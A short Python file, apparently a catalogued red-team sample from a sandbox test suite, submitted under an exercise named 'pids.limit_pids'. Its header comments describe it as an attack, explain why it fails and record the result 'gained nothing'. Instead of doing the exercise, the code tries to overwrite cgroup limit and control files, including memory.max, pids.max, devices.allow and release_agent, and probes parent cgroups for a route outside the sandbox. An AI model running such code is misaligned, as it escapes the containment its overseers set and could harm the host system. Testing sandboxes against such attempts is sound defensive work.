# attack: lifts the limits of the sandbox itself, in every tree it sees, and goes to a group outside of it
# fails: of its own group it owns cgroup.procs and the right to make groups, and not the limits; above it, it sees nothing
# status: graded
# says: gained nothing

# %%exercise pids.limit_pids
import glob
import os

TREES = [
    place for place in ("/sys/fs/cgroup", *glob.glob("/sys/fs/cgroup/*")) if os.path.exists(f"{place}/cgroup.procs")
]
LIMITS = ("memory.limit_in_bytes", "memory.memsw.limit_in_bytes", "memory.max", "memory.swap.max", "pids.max", "cpu.max",
          "cpu.cfs_quota_us", "cgroup.max.depth", "devices.allow", "notify_on_release", "release_agent", "cgroup.freeze",
          "freezer.state", "cgroup.kill")  # fmt: skip


def limit_pids(group, most):
    gained = []
    for tree in TREES:
        for limit in LIMITS:
            for value in ("max", "-1", "a", "1", "FROZEN"):
                try:
                    with open(f"{tree}/{limit}", "r+") as file:
                        file.write(value)
                    gained.append(f"{tree}/{limit}")
                except OSError:
                    pass
        for outside in (f"{tree}/..", f"{tree}/../..", f"{tree}/../minicontainer"):
            if os.path.exists(f"{outside}/cgroup.procs") and not os.path.samefile(outside, tree):
                gained.append(outside)
    raise RuntimeError(f"gained {gained}" if gained else "gained nothing")
